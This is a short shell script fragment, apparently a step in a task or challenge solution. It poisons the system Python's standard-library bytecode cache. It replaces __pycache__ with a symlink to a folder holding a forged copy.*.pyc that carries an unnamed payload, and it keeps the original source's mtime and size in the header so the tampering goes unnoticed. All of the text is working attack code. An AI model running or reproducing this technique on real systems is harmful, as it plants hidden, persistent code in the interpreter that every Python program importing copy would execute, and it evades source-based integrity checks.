# 4. A __pycache__ that is a symlink to a folder whose copy.*.pyc is forged: compiled from
#    copy.py plus the payload, with the untouched source's mtime and size in its header.
py=$(ls /usr/bin/python3.* | grep -E 'python3\.[0-9]+$' | head -n 1)
lib=$($py -c 'import sysconfig; print(sysconfig.get_paths()["stdlib"])')
tag=$($py -c 'import sys; print(sys.implementation.cache_tag)')
mkdir -p /var/tmp/pyc && cp -a "$lib/__pycache__/." /var/tmp/pyc/ 2>/dev/null
$py /solution/forge_pyc.py "$lib" "/var/tmp/pyc/copy.$tag.pyc"
rm -rf "$lib/__pycache__" && ln -s /var/tmp/pyc "$lib/__pycache__"
